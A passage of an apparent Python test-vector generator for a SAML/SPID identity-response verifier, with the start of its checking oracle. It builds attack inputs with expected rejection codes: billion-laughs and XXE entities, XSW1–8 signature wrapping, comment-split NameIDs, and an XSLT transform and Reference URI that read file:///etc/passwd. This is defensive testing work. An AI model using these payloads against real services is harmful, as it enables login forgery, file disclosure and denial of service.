                   '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE samlp:Response [\n' +
                   '  <!ENTITY lol0 "lol">\n' +
                   "".join('  <!ENTITY lol%d "%s">\n' % (k, ("&lol%d;" % (k - 1)) * 10) for k in range(1, 10)) +
                   ']>\n'),
               sub("mario.rossi@example.it", "&lol9;")])
    case("spt-xxe-parameter-entity", "reject:xml-dtd",
         "spid-sp-test's (disabled) XXE template: DOCTYPE with an external parameter entity",
         post=[sub('<?xml version="1.0" encoding="UTF-8"?>\n',
                   '<?xml version="1.0"?><!DOCTYPE foo [ <!ENTITY % xxe SYSTEM "http://example.org/#!/auth"> %xxe; ]>\n\n')])
    case("xml-trailing-junk", "reject:xml-malformed", "text after the root element",
         post=[lambda s: s + "<junk/>\n"])
    case("xml-two-roots", "reject:xml-malformed", "a second root element (a copy of the Response)",
         post=[lambda s: s + s[s.index("<samlp:Response"):]])
    case("xml-truncated", "reject:xml-malformed", "document cut in the middle", post=[lambda s: s[:len(s) // 2]])
    case("xml-unbound-prefix", "reject:xml-malformed", "an element with an undeclared prefix inside the Assertion",
         post=[insert_after("saml:Issuer", "\n    <evil:Thing/>", n=1)])
    case("xml-limits-depth", "reject:xml-limits", "100 nested elements inside samlp:Extensions",
         post=[insert_after("ds:Signature", "\n  <samlp:Extensions>" + "<x>" * 100 + "</x>" * 100 + "</samlp:Extensions>", n=0)])
    case("xml-limits-nodes", "reject:xml-limits", "15,000 empty elements inside samlp:Extensions",
         post=[insert_after("ds:Signature", "\n  <samlp:Extensions>" + "<x/>" * 15000 + "</samlp:Extensions>", n=0)])
    case("xml-limits-attributes", "reject:xml-limits", "an element with 100 attributes inside samlp:Extensions",
         post=[insert_after("ds:Signature", "\n  <samlp:Extensions><x " + " ".join('a%d="%d"' % (k, k) for k in range(100)) +
                            "/></samlp:Extensions>", n=0)])
    case("comment-in-nameid", "reject:xml-comment",
         "NameID 'victim<!---->.evil': comment inserted after signing, both signatures still valid (c14n drops comments)",
         nameid="victim.evil", post=[sub("victim.evil", "victim<!---->.evil")],
         verify={"response": True, "assertion": True})
    case("comment-in-fiscalnumber", "reject:xml-comment",
         "fiscalNumber 'TINIT-RSSMRA80A01H501<!---->U' inserted after signing, signatures still valid",
         post=[sub("TINIT-RSSMRA80A01H501U", "TINIT-RSSMRA80A01H501<!---->U")],
         verify={"response": True, "assertion": True})
    case("comment-before-root", "accept", "a comment between the XML declaration and the root (legal XML; c14n drops it); signatures valid",
         post=[sub('<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0" encoding="UTF-8"?>\n<!-- hello -->\n')],
         verify={"response": True, "assertion": True})
    case("processing-instruction-in-value", "reject:xml-comment", "<?evil x?> inside the email value (after signing)",
         post=[sub("mario.rossi@example.it", "mario.rossi<?evil x?>@example.it")])

    # ---------------- structure ----------------
    case("root-assertion", "reject:not-a-response", "a signed saml:Assertion as the document element",
         rsig=NOSIG, post=[lambda s: '<?xml version="1.0" encoding="UTF-8"?>\n' +
                            set_attr("saml:Assertion", "xmlns:saml", NS_A)(s[span(s, A)[0]:span(s, A)[2]]) + "\n"],
         verify={})
    case("root-logout-response", "reject:not-a-response", "a samlp:LogoutResponse document",
         rsig=NOSIG, asig=NOSIG, assertion=False,
         post=[sub("<samlp:Response ", "<samlp:LogoutResponse "), sub("</samlp:Response>", "</samlp:LogoutResponse>")])
    case("root-wrong-namespace", "reject:not-a-response", "Response element in the SAML 1.0 protocol namespace",
         post=[sub('xmlns:samlp="%s"' % NS_P, 'xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol"')])
    case("spt-xsw-namespaces-stripped", "reject:not-a-response",
         "what spid-sp-test's xsw1..xsw8 really send: lxml del_ns() strips every SAML/DSig namespace (here on XSW1)",
         post=[xsw(1), strip_namespaces])
    case("duplicate-id-extensions", "reject:duplicate-id",
         "samlp:Extensions with an element carrying the Assertion's ID (added after signing)",
         post=[lambda s: insert_after("ds:Signature", '\n  <samlp:Extensions><x:Thing xmlns:x="urn:x" ID="%s"/></samlp:Extensions>'
                                      % ids("duplicate-id-extensions")["aid"], n=0)(s)])
    case("duplicate-id-Id-attribute", "reject:duplicate-id", "Id=\"<Assertion ID>\" on an Attribute element",
         post=[lambda s: set_attr("saml:Attribute", "Id", ids("duplicate-id-Id-attribute")["aid"], n=7)(s)])
    case("duplicate-id-xml-id", "reject:duplicate-id", "xml:id=\"<Response ID>\" on samlp:Status",
         post=[lambda s: set_attr("samlp:Status", "xml:id", ids("duplicate-id-xml-id")["rid"])(s)])
    case("duplicate-id-response-equals-assertion", "reject:duplicate-id",
         "the Assertion's ID changed to the Response's ID after signing",
         post=[lambda s: set_attr(A, "ID", ids("duplicate-id-response-equals-assertion")["rid"])(s)])
    case("signature-in-attribute-value", "reject:misplaced-signature",
         "a copy of the Assertion's ds:Signature inside the email AttributeValue",
         post=[lambda s: set_content("saml:AttributeValue", s[span(s, "ds:Signature", 1)[0]:span(s, "ds:Signature", 1)[2]],
                                     n=[a for a, _, _ in MAIN_ATTRS].index("email"))(s)])
    case("signature-in-extensions", "reject:misplaced-signature", "a copy of the Response signature inside samlp:Extensions",
         post=[lambda s: insert_after("ds:Signature", "\n  <samlp:Extensions>%s</samlp:Extensions>"
                                      % s[span(s, "ds:Signature")[0]:span(s, "ds:Signature")[2]], n=0)(s)])
    case("two-signatures-on-response", "reject:misplaced-signature", "the Response signature duplicated next to itself",
         post=[lambda s: insert_after("ds:Signature", "\n  " + s[span(s, "ds:Signature")[0]:span(s, "ds:Signature")[2]], n=0)(s)])
    case("two-signatures-on-assertion", "reject:misplaced-signature", "the Assertion signature duplicated next to itself",
         post=[lambda s: insert_after("ds:Signature", "\n    " + s[span(s, "ds:Signature", 1)[0]:span(s, "ds:Signature", 1)[2]], n=1)(s)])
    case("two-assertions", "reject:assertion-count", "an unsigned copy of the Assertion (new ID) appended after it",
         post=[lambda s: append_child("samlp:Response", "  " + set_attr(A, "ID", "_a" + h40("copy", "x"))(
             strip_sig(s[span(s, A)[0]:span(s, A)[2]])) + "\n")(s)])
    case("two-assertions-both-signed", "reject:assertion-count",
         "two Assertions, each validly signed by idp, in a validly signed Response",
         pre=[lambda s: append_child("samlp:Response", "  " + set_attr(A, "ID", "_a" + h40("second", "x"))(
             s[span(s, A)[0]:span(s, A)[2]]).replace('URI="#%s"' % ids("two-assertions-both-signed")["aid"],
                                                      'URI="#%s"' % ("_a" + h40("second", "x"))) + "\n")(s)],
         steps=[("/*/*[local-name()='Assertion'][1]/*[local-name()='Signature']", "idp"),
                ("/*/*[local-name()='Assertion'][2]/*[local-name()='Signature']", "idp"),
                (XP_RSIG, "idp")],
         verify={"response": True})
    case("encrypted-assertion", "reject:assertion-count", "saml:EncryptedAssertion instead of an Assertion (Response signed)",
         assertion=False, pre=[append_child("samlp:Response",
             '  <saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#" '
             'Type="http://www.w3.org/2001/04/xmlenc#Element"><xenc:EncryptionMethod '
             'Algorithm="http://www.w3.org/2009/xmlenc11#aes256-gcm"/><xenc:CipherData><xenc:CipherValue>'
             + base64.b64encode(hashlib.sha512(b"not really encrypted").digest() * 4).decode() +
             '</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData></saml:EncryptedAssertion>\n')])
    case("encrypted-assertion-plus-assertion", "reject:assertion-count",
         "an EncryptedAssertion next to a valid signed Assertion",
         pre=[insert_before(A, '<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#">'
                               '<xenc:CipherData><xenc:CipherValue>AAAA</xenc:CipherValue></xenc:CipherData>'
                               '</xenc:EncryptedData></saml:EncryptedAssertion>\n  ')])
    case("nested-response", "reject:assertion-count", "a refusal Response nested in samlp:Extensions (signed before)",
         pre=[insert_after("ds:Signature", '\n  <samlp:Extensions><samlp:Response ID="_r%s" Version="2.0" IssueInstant="%s">'
                                           '<samlp:Status><samlp:StatusCode Value="%s"/></samlp:Status></samlp:Response>'
                                           '</samlp:Extensions>' % (h40("nested", "x"), II, SUCCESS), n=0)])
    case("assertion-in-advice", "reject:assertion-count", "an Assertion inside saml:Advice of the Assertion (signed)",
         pre=[insert_after("saml:Conditions", '\n    <saml:Advice><saml:Assertion ID="_a%s" Version="2.0" IssueInstant="%s">'
                                              '<saml:Issuer>%s</saml:Issuer></saml:Assertion></saml:Advice>' % (h40("advice", "x"), II, IDP))])

    # ---------------- XML signature wrapping (SAMLRaider XSW1-8 on the main vector) ----------------
    case("xsw1-response-clone-in-signature", "reject:duplicate-id",
         "XSW1: evil Response (new ID) whose Signature holds the original Response; Assertion ID duplicated", post=[xsw(1)])
    case("xsw1-unique-ids", "reject:misplaced-signature",
         "XSW1 with the evil Assertion renamed and unsigned: the original's Assertion signature sits inside the Response signature",
         post=[xsw(1, unique_ids=True)])
    case("xsw1-response-only-signed", "reject:assertion-count",
         "XSW1 on a Response-only signed message, evil Assertion renamed: original Response/Assertion nested in the Signature",
         rsig=Sig(), asig=NOSIG, post=[xsw(1, unique_ids=True)])
    case("xsw2-response-clone-sibling", "reject:duplicate-id",
         "XSW2: original Response as a sibling before the Signature of the evil Response", post=[xsw(2)])
    case("xsw2-unique-ids", "reject:misplaced-signature", "XSW2 with unique IDs", post=[xsw(2, unique_ids=True)])
    case("xsw2-response-only-signed", "reject:assertion-count", "XSW2 on a Response-only signed message, unique IDs",
         rsig=Sig(), asig=NOSIG, post=[xsw(2, unique_ids=True)])
    case("xsw3-evil-assertion-first", "reject:assertion-count",
         "XSW3: unsigned evil Assertion (new ID) inserted before the signed original", post=[xsw(3)])
    case("xsw4-original-nested-in-evil", "reject:misplaced-signature",
         "XSW4: evil Assertion wraps the signed original", post=[xsw(4)])
    case("xsw5-evil-keeps-signature", "reject:assertion-count",
         "XSW5: evil Assertion keeps the Signature, unsigned original copy appended to the Response", post=[xsw(5)])
    case("xsw6-original-in-signature", "reject:assertion-count",
         "XSW6: evil Assertion keeps the Signature, original copy inside that Signature", post=[xsw(6)])
    case("xsw7-extensions", "reject:duplicate-id",
         "XSW7: unsigned evil copy (same ID) inside a no-namespace <Extensions> before the Assertion", post=[xsw(7)])
    case("xsw7-unique-ids", "reject:assertion-count", "XSW7 with samlp:Extensions and a fresh ID",
         post=[xsw(7, unique_ids=True)])
    case("xsw8-object-in-signature", "reject:duplicate-id",
         "XSW8: evil Assertion (same ID) with the original copy inside <Object> in its Signature", post=[xsw(8)])
    case("xsw8-unique-ids", "reject:assertion-count", "XSW8 with ds:Object and the evil Assertion renamed",
         post=[xsw(8, unique_ids=True)])

    # ---------------- signature: shape / algorithms / reference / transforms ----------------
    case("xslt-transform", "reject:signature-transforms",
         "XSLT Transform (with Algorithm) added first to the Response signature's Transforms",
         post=[lambda s: insert_before("ds:Transform",
                   '<ds:Transform Algorithm="%s"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
                   'version="1.0"><xsl:template match="/"><xsl:value-of select="unparsed-text(\'file:///etc/passwd\')"/>'
                   '</xsl:template></xsl:stylesheet></ds:Transform>' % XSLT, n=0)(s)])
    case("spt-xslt-transform", "reject:signature-transforms",
         "spid-sp-test xslt: a ds:Transform WITHOUT Algorithm holding an XSLT stylesheet, inserted first",
         post=[lambda s: insert_before("ds:Transform",
               '<ds:Transform xmlns:ds="http://www.w3.org/2000/09/xmldsig#">\n'
               '                  <xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n'
               '                     <xsl:template match="doc">\n'
               '                        <xsl:variable name="file" select="\'test\'" />\n'
               '                        <xsl:variable name="escaped" select="encode-for-uri(\'$file\')" />\n'
               '                        <xsl:variable name="attackURL" select="\'http://localhost:19000/#!/auth\'" />\n'
               '                        <xsl:variable name="exploitURL" select="concat($attackerURL,$escaped)" />\n'
               '                        <xsl:value-of select="unparsed-text($exploitURL)" />\n'
               '                     </xsl:template>\n'
               '                  </xsl:stylesheet>\n'
               '               </ds:Transform>', n=0)(s)])
    case("transforms-enveloped-only", "reject:signature-transforms",
         "real xmlsec1 signatures with Transforms = [enveloped] only", rsig=Sig(transforms=(ENV,)), asig=Sig(transforms=(ENV,)))
    case("transforms-inclusive-c14n", "reject:signature-transforms", "real signatures with [enveloped, inclusive c14n]",
         rsig=Sig(transforms=(ENV, INC)), asig=Sig(transforms=(ENV, INC)))
    case("transforms-exc-with-comments", "reject:signature-transforms",
         "real signatures with [enveloped, exc-c14n#WithComments]",
         rsig=Sig(transforms=(ENV, EXC_WC)), asig=Sig(transforms=(ENV, EXC_WC)))
    case("transforms-reversed", "reject:signature-transforms", "Response signature transforms swapped after signing",
         post=[lambda s: s.replace('<ds:Transform Algorithm="%s"/><ds:Transform Algorithm="%s"/>' % (ENV, EXC),
                                   '<ds:Transform Algorithm="%s"/><ds:Transform Algorithm="%s"/>' % (EXC, ENV), 1)])
    case("transforms-missing", "reject:signature-transforms", "Response signature without ds:Transforms (removed after signing)",
         post=[replace_elem("ds:Transforms", "", n=0)])
    case("transforms-xpath", "reject:signature-transforms", "an XPath transform appended to the Response signature",
         post=[append_child("ds:Transforms", '<ds:Transform Algorithm="%s"><ds:XPath>not(ancestor-or-self::ds:Signature)'
                                              '</ds:XPath></ds:Transform>' % XPATH, n=0)])
    case("sha1-signatures", "reject:signature-algorithm", "real rsa-sha1 + sha1 signatures (xmlsec1)",
         rsig=Sig(method=RSA_SHA1, digest=SHA1), asig=Sig(method=RSA_SHA1, digest=SHA1),
         verify={"response": True, "assertion": True})
    case("sha1-digest-only", "reject:signature-algorithm", "real rsa-sha256 signatures with sha1 digests",
         rsig=Sig(digest=SHA1), asig=Sig(digest=SHA1), verify={"response": True, "assertion": True})
    case("sha1-assertion-only-signed", "reject:signature-algorithm",
         "Response unsigned, Assertion signed rsa-sha1/sha1 (checked at the Assertion signature)",
         rsig=NOSIG, asig=Sig(method=RSA_SHA1, digest=SHA1), verify={"assertion": True})
    case("md5-algorithm", "reject:signature-algorithm", "Algorithm URIs rewritten to rsa-md5 / md5 after signing",
         post=[sig_alg_rewrite(RSA_MD5, MD5, 0), sig_alg_rewrite(RSA_MD5, MD5, 1)])
    case("hmac-algorithm", "reject:signature-algorithm", "SignatureMethod rewritten to hmac-sha1 after signing",
         post=[sig_alg_rewrite(HMAC_SHA1, None, 0), sig_alg_rewrite(HMAC_SHA1, None, 1)])
    case("c14n-inclusive", "reject:signature-algorithm", "real signatures whose CanonicalizationMethod is inclusive c14n",
         rsig=Sig(c14n=INC), asig=Sig(c14n=INC), verify={"response": True, "assertion": True})
    case("c14n-exc-with-comments", "reject:signature-algorithm", "real signatures, CanonicalizationMethod exc-c14n#WithComments",
         rsig=Sig(c14n=EXC_WC), asig=Sig(c14n=EXC_WC), verify={"response": True, "assertion": True})
    case("reference-uri-to-assertion", "reject:signature-reference",
         "Response signature (real) whose Reference points to the Assertion", rsig=Sig(uris=("#ASSERTION",)),
         verify={"response": True, "assertion": True})
    case("reference-uri-empty", "reject:signature-reference", "Response signature (real) with Reference URI=\"\"",
         rsig=Sig(uris=("",)), verify={"response": True, "assertion": True})
    case("reference-two", "reject:signature-reference", "Response signature (real) with two References (#Response, #Assertion)",
         rsig=Sig(uris=("#RESPONSE", "#ASSERTION")), verify={"response": True, "assertion": True})
    case("reference-xpointer", "reject:signature-reference", "Reference URI rewritten to #xpointer(id('...'))",
         post=[lambda s: re.sub(r'URI="#(_r[0-9a-f]{40})"', lambda m: "URI=\"#xpointer(id('%s'))\"" % m.group(1), s, count=1)])
    case("reference-external-file", "reject:signature-reference", "Reference URI rewritten to file:///etc/passwd",
         post=[lambda s: re.sub(r'URI="#_r[0-9a-f]{40}"', 'URI="file:///etc/passwd"', s, count=1)])
    case("assertion-reference-to-response", "reject:signature-reference",
         "Assertion signature whose Reference points to the Response (Response signature valid)",
         asig=Sig(uris=("#RESPONSE",)), verify={"response": True})
    case("signature-no-signedinfo", "reject:signature-malformed", "Response signature without SignedInfo",
         post=[replace_elem("ds:SignedInfo", "", n=0)])
    case("signature-no-signaturevalue", "reject:signature-malformed", "Response signature without SignatureValue",
         post=[replace_elem("ds:SignatureValue", "", n=0)])
    case("signature-empty-element", "reject:signature-malformed", "Response carries an empty <ds:Signature/>",
         post=[lambda s: replace_elem("ds:Signature", '<ds:Signature xmlns:ds="%s"/>' % NS_DS, n=0)(s)])
    case("weak-key-1024", "reject:weak-key",
         "both signatures by the RSA-1024 key; weak1024.crt registered as an extra key of idp.test.example",
         rsig=Sig(key="weak1024"), asig=Sig(key="weak1024"), options="extra_idp_key=weak1024", verify={})
    case("digest-mismatch-fiscalnumber", "reject:digest-mismatch", "fiscalNumber changed after signing",
         post=[sub("TINIT-RSSMRA80A01H501U", "TINIT-VRDGPP80A01H501Q")], verify={"response": False, "assertion": False})
    case("digest-mismatch-response-attribute", "reject:digest-mismatch",
         "Response IssueInstant moved by 1 s after signing (Assertion intact)",
         post=[set_attr("samlp:Response", "IssueInstant", "2026-01-15T10:00:03Z")],
         verify={"response": False, "assertion": True})
    case("digest-mismatch-assertion-only-signed", "reject:digest-mismatch",
         "Response unsigned; fiscalNumber changed after signing the Assertion", rsig=NOSIG,
         post=[sub("TINIT-RSSMRA80A01H501U", "TINIT-VRDGPP80A01H501Q")], verify={"assertion": False})
    case("digest-value-altered", "reject:digest-mismatch", "one bit of the Response DigestValue flipped",
         post=[flip_b64("ds:DigestValue", 0)])
    case("assertion-signature-stripped", "reject:digest-mismatch",
         "Assertion signature removed after signing: the Response digest no longer matches", post=[lambda s: strip_sig(s, 1)])
    case("digest-mismatch-whitespace", "reject:digest-mismatch", "a newline added between two Assertion children after signing",
         post=[insert_after("saml:Subject", "\n")])
    case("digest-mismatch-prefix-renamed", "reject:digest-mismatch",
         "saml: prefix renamed to s2: after signing (same names, different exc-c14n bytes)",
         post=[rename_assertion_prefix])
    case("signature-value-bitflip", "reject:signature-invalid", "one bit of the Response SignatureValue flipped",
         post=[flip_b64("ds:SignatureValue", 0)], verify={"response": False, "assertion": True})
    case("signature-invalid-signedinfo-whitespace", "reject:signature-invalid",
         "whitespace added inside the Response SignedInfo after signing (digests still match)",
         post=[lambda s: s.replace("<ds:SignatureMethod", "\n<ds:SignatureMethod", 1)],
         verify={"response": False, "assertion": True})
    case("signed-by-idp2-issuer-idp", "reject:signature-invalid",
         "Issuer idp.test.example but both signatures by idp2's key (idp2 is trusted, for its own entity only)",
         rsig=idp2_sig, asig=idp2_sig, verify={"response": False, "assertion": False})
    case("attacker-assertion-only-signed", "reject:signature-invalid",
         "Response unsigned, Assertion signed by the attacker (cert in KeyInfo)", rsig=NOSIG, asig=att_sig,
         verify={"assertion": False})
    case("issued-by-idp2", "reject:issuer-mismatch",
         "issued and signed by idp2 (valid for idp2) but the request went to idp.test.example",
         issuer=IDP2, rsig=idp2_sig, asig=idp2_sig)

def move_before(q, target):
    """Mutation: move the first element q (with its line) right before the first element target."""
    def f(s):
        a, _, b = span(s, q)
        piece = s[a:b]
        s = replace_elem(q, None)(s)
        return insert_before(target, piece + "\n    ")(s)
    return f


def define_structure_and_rule_cases():
    """Schema-strict structure (`schema-structure`) and the SAML core / SPID rules an IdP could
    break (SubjectConfirmationData NotBefore, unknown conditions, SessionNotOnOrAfter, AuthnInstant
    with ForceAuthn, NameQualifier, duplicate attributes, nested status under Success, eIDAS key
    bound to the eIDAS node). Everything is changed `pre` (signed after): the signatures are
    valid and the expected code is the rule's own."""
    A_, C_, SCD_, AS_ = "saml:Assertion", "saml:Conditions", "saml:SubjectConfirmationData", "saml:AuthnStatement"
    fiscal = [a for a, _, _ in MAIN_ATTRS].index("fiscalNumber")
    evil_attr = ('<saml:Attribute Name="fiscalNumber"><saml:AttributeValue xsi:type="xs:string">%s'
                 '</saml:AttributeValue></saml:Attribute>' % EVIL_FISCAL)
    # ---------------- schema-strict structure ----------------
    case("schema-foreign-element-in-response", "reject:schema-structure",
         "a foreign-namespace element (x:Thing holding a fiscal code) between Status and the Assertion",
         pre=[insert_before(A_, '<x:Thing xmlns:x="urn:x">%s</x:Thing>\n  ' % EVIL_FISCAL)])
    case("schema-assertion-other-namespace", "reject:schema-structure",
         "a SAML 1.0 s1:Assertion (another namespace, same local name) with a fiscalNumber before the real Assertion",
         pre=[insert_before(A_, '<s1:Assertion xmlns:s1="urn:oasis:names:tc:SAML:1.0:assertion" MajorVersion="1" '
                                'MinorVersion="1" AssertionID="_s1evil"><s1:AttributeStatement><s1:Attribute '
                                'AttributeName="fiscalNumber"><s1:AttributeValue>%s</s1:AttributeValue></s1:Attribute>'
                                '</s1:AttributeStatement></s1:Assertion>\n  ' % EVIL_FISCAL)])
    case("schema-foreign-element-in-assertion", "reject:schema-structure",
         "a foreign-namespace element between Subject and Conditions",
         pre=[insert_after("saml:Subject", '\n    <x:Extra xmlns:x="urn:x"/>')])
    case("schema-conditions-before-subject", "reject:schema-structure",
         "Conditions moved before Subject (sequence order)", pre=[move_before(C_, "saml:Subject")])
    case("schema-two-subjects", "reject:schema-structure",
         "a second Subject (the attacker's NameID) after the first (cardinality)",
         pre=[lambda s: insert_after("saml:Subject", "\n    " + evil_values(s[span(s, "saml:Subject")[0]:span(s, "saml:Subject")[2]]))(s)])
    case("schema-text-in-subject", "reject:schema-structure", "text (a fiscal code) in Subject's element-only content",
         pre=[insert_after("saml:NameID", EVIL_FISCAL)])
    case("schema-element-in-nameid", "reject:schema-structure", "an element inside NameID (simple content)",
         pre=[append_child("saml:NameID", '<x:Extra xmlns:x="urn:x"/>')])
    case("schema-foreign-element-in-status", "reject:schema-structure", "a foreign-namespace element after StatusCode",
         pre=[append_child("samlp:Status", '<x:Extra xmlns:x="urn:x"/>\n  ')])
    case("schema-encrypted-attribute", "reject:schema-structure",
         "an EncryptedAttribute in the AttributeStatement (SPID: Attribute only)",
         pre=[append_child("saml:AttributeStatement",
                           '  <saml:EncryptedAttribute><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#">'
                           '<xenc:CipherData><xenc:CipherValue>AAAA</xenc:CipherValue></xenc:CipherData>'
                           '</xenc:EncryptedData></saml:EncryptedAttribute>\n    ')])
    case("schema-attribute-outside-statement", "reject:schema-structure",
         "an Attribute (fiscalNumber) as a direct child of the Assertion (spid-sp-test 99 upstream shape)",
         pre=[insert_before("saml:AttributeStatement", evil_attr + "\n    ")])
    case("valid-extensions-foreign-content", "accept", "samlp:Extensions with foreign content (free by the schema)",
         pre=[insert_after("ds:Signature", '\n  <samlp:Extensions><x:Note xmlns:x="urn:x" kind="info">hello</x:Note>'
                                           '</samlp:Extensions>', n=0)])
    case("valid-subject-locality-one-time-use", "accept",
         "AuthnStatement with SubjectLocality, Conditions with one OneTimeUse (honoured: assertions are single-use)",
         pre=[insert_after("saml:AudienceRestriction", "\n      <saml:OneTimeUse/>"),
              insert_before("saml:AuthnContext", '<saml:SubjectLocality Address="192.0.2.1"/>\n      ')])
    # ---------------- SAML core / SPID rules ----------------
    case("subject-confirmation-data-not-before", "reject:subject-not-before",
         "SubjectConfirmationData with NotBefore (none in Web Browser SSO bearer confirmation, profiles 4.1.4.2)",
         pre=[set_attr(SCD_, "NotBefore", II)])
    case("condition-typed", "reject:condition-unsupported", "a saml:Condition with xsi:type x:GeoFence",
         pre=[append_child(C_, '  <saml:Condition xmlns:x="urn:x" xsi:type="x:GeoFence"/>\n    ')])
    case("condition-proxy-restriction", "reject:condition-unsupported", "a ProxyRestriction Count=0",
         pre=[append_child(C_, '  <saml:ProxyRestriction Count="0"/>\n    ')])
    case("condition-two-one-time-use", "reject:condition-unsupported", "two OneTimeUse (core 2.5.1.5: at most one)",
         pre=[append_child(C_, "  <saml:OneTimeUse/><saml:OneTimeUse/>\n    ")])
    case("session-not-on-or-after-past", "reject:session-not-on-or-after",
         "AuthnStatement SessionNotOnOrAfter 2026-01-15T09:00:00Z (before now minus skew)",
         pre=[set_attr(AS_, "SessionNotOnOrAfter", "2026-01-15T09:00:00Z")])
    case("session-not-on-or-after-malformed", "reject:session-not-on-or-after", "SessionNotOnOrAfter 2026-01-15",
         pre=[set_attr(AS_, "SessionNotOnOrAfter", "2026-01-15")])
    case("valid-session-not-on-or-after", "accept", "SessionNotOnOrAfter 2026-01-15T18:00:00Z",
         pre=[set_attr(AS_, "SessionNotOnOrAfter", "2026-01-15T18:00:00Z")])
    case("authn-instant-before-request", "reject:authn-instant",
         "AuthnInstant 09:58:00Z, 2 min before the request; SpidL2 requested, so ForceAuthn was sent",
         authn_instant="2026-01-15T09:58:00Z")
    case("authn-instant-future", "reject:authn-instant", "AuthnInstant 10:05:00Z, after now plus skew",
         authn_instant="2026-01-15T10:05:00Z")
    case("authn-instant-missing", "reject:authn-instant", "AuthnStatement without AuthnInstant (required by the schema)",
         pre=[set_attr(AS_, "AuthnInstant", None)])
    case("authn-instant-malformed", "reject:authn-instant", "AuthnInstant 2026-01-15",
         pre=[set_attr(AS_, "AuthnInstant", "2026-01-15")])
    case("acr-l1-authn-instant-before-request", "accept",
         "SpidL1 exact requested (no ForceAuthn for SPID at L1): AuthnInstant 09:30:00Z, an earlier IdP session, is fine",
         level=L1, authn_instant="2026-01-15T09:30:00Z", options="level=L1;comparison=exact")
    case("name-id-qualifier-wrong", "reject:name-id-qualifier",
         "NameID NameQualifier https://idp.evil.example (not the IdP's entityID)",
         pre=[set_attr("saml:NameID", "NameQualifier", "https://idp.evil.example")])
    case("attribute-fiscalnumber-twice", "reject:attribute-duplicate", "two fiscalNumber Attributes (the second one evil)",
         attrs=with_attrs(MAIN_ATTRS, add=[("fiscalNumber", "xs:string", EVIL_FISCAL)]))
    case("attribute-fiscalnumber-two-values", "reject:attribute-duplicate", "one fiscalNumber Attribute with two values",
         pre=[append_child("saml:Attribute", '  <saml:AttributeValue xsi:type="xs:string">%s</saml:AttributeValue>\n      '
                           % EVIL_FISCAL, n=fiscal)])
    case("attribute-fiscalnumber-two-statements", "reject:attribute-duplicate",
         "a second AttributeStatement with another fiscalNumber",
         pre=[insert_after("saml:AttributeStatement", "\n    <saml:AttributeStatement>%s</saml:AttributeStatement>" % evil_attr)])
    case("attribute-custom-name-twice", "reject:attribute-duplicate",
         "a non-SPID attribute Name (customRole) sent in two Attributes",
         attrs=with_attrs(MAIN_ATTRS, add=[("customRole", "xs:string", "reader"), ("customRole", "xs:string", "admin")]))
    case("valid-custom-attribute-multivalued", "accept",
         "a non-SPID attribute (customRoles) with two values: multi-valued attributes are allowed outside the SPID set",
         attrs=with_attrs(MAIN_ATTRS, add=[("customRoles", "xs:string", "reader")]),
         pre=[append_child("saml:Attribute", '  <saml:AttributeValue xsi:type="xs:string">writer</saml:AttributeValue>\n      ',
                           n=len(MAIN_ATTRS))])
    case("status-success-nested", "reject:response-status", "Success with a nested StatusCode AuthnFailed",
         pre=[replace_elem("samlp:StatusCode", '<samlp:StatusCode Value="%s"><samlp:StatusCode Value="%s"/></samlp:StatusCode>'
                           % (SUCCESS, AUTHN_FAILED))])
    case("eidas-id-from-spid-idp", "reject:identity-key-missing",
         "valid-eidas-user's attributes from a SPID IdP: an eIDAS-shaped spidCode is no eIDAS identity",
         attrs=EIDAS_ATTRS)


# --------------------------------------------------------------------------------------------
# Building one vector
# --------------------------------------------------------------------------------------------
def resolve_uris(s, rid, aid):
    if s is None or s.uris is None:
        return s
    return replace(s, uris=tuple(u.replace("#RESPONSE", "#" + rid).replace("#ASSERTION", "#" + aid) for u in s.uris))


def apply(text, muts):
    for m in muts:
        text = m(text)
    return text


def sign_step(text, xpath, sig, ref_id):
    if sig.signer == "signxml":
        return signxml_sign(text, xpath, sig.key, ref_id, sig.prefixlist)
    return xmlsec_sign(text, xpath, sig.key)


def build_vector(c):
    i = ids(c.name)
    b = replace(c.build, rsig=resolve_uris(c.build.rsig, i["rid"], i["aid"]),
                asig=resolve_uris(c.build.asig, i["rid"], i["aid"]))
    text = apply(render(c.name, b), c.pre)
    if c.steps:
        for xp, key in c.steps:
            text = xmlsec_sign(text, xp, key)
    else:
        if b.assertion and b.asig is not None:
            text = sign_step(text, XP_ASIG, b.asig, i["aid"])
        text = apply(text, c.mid)
        if b.rsig is not None:
            text = sign_step(text, XP_RSIG, b.rsig, i["rid"])
    data = text
    for m in c.post:
        data = m(data)
    if isinstance(data, str):
        data = data.encode("utf-8")
    return data


def default_verify(c):
    """Which signatures xmlsec1 must find valid (True) / invalid (False)."""
    if c.verify is not None:
        return c.verify
    if c.post or c.mid:
        return {}
    b = c.build
    v = {}
    if b.rsig is not None:
        v["response"] = True
    if b.assertion and b.asig is not None:
        v["assertion"] = True
    return v


def signer_key(c, which):
    s = c.build.rsig if which == "response" else c.build.asig
    if c.steps:
        return "idp"
    return s.key if s is not None else "idp"


# --------------------------------------------------------------------------------------------
# Oracle: an independent Python model of the verifier's check order (README.md, "Check order").
# Crypto is delegated to xmlsec1 (trusting only the IdP's metadata key); everything else is here.
# --------------------------------------------------------------------------------------------
class Rej(Exception):
    pass


class El:
    __slots__ = ("ns", "local", "attrs", "kids", "parent", "text", "comment")

    def __init__(self, ns, local, attrs, parent):
        self.ns, self.local, self.attrs, self.parent = ns, local, attrs, parent
        self.kids, self.text, self.comment = [], [], False

    def child(self, ns, local):
        return [k for k in self.kids if k.ns == ns and k.local == local]

    def one(self, ns, local):
        c = self.child(ns, local)
        return c[0] if c else None

    def txt(self):
        return "".join(self.text).strip()

    def empty(self):
        return not self.kids and not self.txt()

    def get(self, name):
        return self.attrs.get(("", name))

    def walk(self):
        yield self
        for k in self.kids:
            yield from k.walk()


LIMITS = {"depth": 32, "nodes": 10000, "attrs": 32}       # the verifier's Limits::MESSAGE


def oracle_parse(data):
